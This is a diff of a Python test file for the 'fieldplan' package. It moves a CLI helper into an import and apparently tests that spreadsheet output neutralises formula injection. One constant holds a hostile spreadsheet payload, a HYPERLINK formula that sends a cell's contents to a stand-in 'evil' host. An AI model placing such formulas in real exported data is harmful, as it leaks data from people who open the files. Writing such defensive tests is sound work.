@@ -17,9 +17,9 @@ from pathlib import Path
 import pytest
 
 from fieldplan import files, progress, tabular
-from fieldplan.cli import main
 from fieldplan.errors import FileError, ValidationError
 from fieldplan.text import clean_text, for_spreadsheet
+from tests.cli.test_cli_messages import run
 
 HYPERLINK = '=HYPERLINK("http://evil/?x="&A2,"Click")'
 #: text that starts a formula in Excel or LibreOffice, one per text column it goes in
@@ -40,13 +40,6 @@ def _no_protected_files(monkeypatch) -> None:
     monkeypatch.setattr(files, "_protected", Counter())
 
 
-def run(*argv: str, capsys) -> tuple[int, str, str]:
-    try:
-        code = main(list(argv))
-    except SystemExit as exit_:
-        code = exit_.code
-    out, err = capsys.readouterr()
-    return code, out, err
 
 
 def _hostile_report(rep) -> None:
